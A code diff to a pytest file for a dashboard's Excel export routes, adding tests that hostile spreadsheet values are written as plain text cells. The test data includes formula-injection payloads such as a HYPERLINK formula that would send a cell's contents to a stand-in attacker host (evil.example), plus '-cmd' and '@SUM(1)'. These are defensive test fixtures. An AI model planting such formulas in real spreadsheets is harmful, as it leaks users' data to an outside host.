@@ -24,7 +24,7 @@ from dashboard.context import AppContext
 from dashboard.downloads import monitoring_xlsx
 from dashboard.downloads.routes import register_export_routes
 from gosterge.plan import Plan, load_plan
-from tests.support.downloads import ExportContext
+from tests.support.downloads import HOSTILE_TEXTS, ExportContext
 
 FIXTURES = Path(__file__).resolve().parent.parent / "fixtures" / "plans"
 HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?x="&A3;"Plan")'
@@ -37,7 +37,7 @@ REPLACEMENTS = (
     ('title_tr = "Nüfus ve hizmetler"', 'title_tr = "-3+3"'),
 )
 #: texts that must each arrive somewhere as a text cell
-EXPECTED_TEXTS = (HOSTILE_TITLE, "=1+1", "=Karşıyaka")
+EXPECTED_TEXTS = (HOSTILE_TITLE, "=1+1", "=Karşıyaka", '=HYPERLINK("http://evil.example";"x")')
 
 
 @pytest.fixture(scope="module")
@@ -95,6 +95,8 @@ def text_cells(workbook: openpyxl.Workbook) -> tuple[list[str], list[str]]:
         "/export.xlsx?plan=hostile&level=goals",
         "/export.xlsx?plan=hostile&level=measurements&district=2055",
         "/export.xlsx?plan=hostile&level=districts",
+        "/export.xlsx?plan=hostile&level=rejected",  # hostile values: =HYPERLINK(…), +1, -cmd, @SUM(1)
+        "/export.xlsx?plan=hostile&level=league&indicator=1.2.1.1",
         "/monitoring.xlsx?plan=hostile&year=2020",
     ],
 )
@@ -123,3 +125,11 @@ def test_the_pack_link_is_absolute_and_gives_the_same_pack(formula_server: str) 
     assert again.sheetnames == first.sheetnames
     for name in first.sheetnames[:-1]:  # the metadata differs only by its generation time
         assert list(again[name].iter_rows(values_only=True)) == list(first[name].iter_rows(values_only=True)), name
+
+
+def test_hostile_values_arrive_as_text(formula_server: str) -> None:
+    """Rejected rows hold the values people typed into source files: each one a text cell, as typed."""
+    texts, formulas = text_cells(workbook_at(formula_server, "/export.xlsx?plan=hostile&level=rejected"))
+    assert not formulas
+    typed = {text for text in HOSTILE_TEXTS if not text.startswith("\r")}  # a carriage return reads back as \n
+    assert typed <= set(texts)
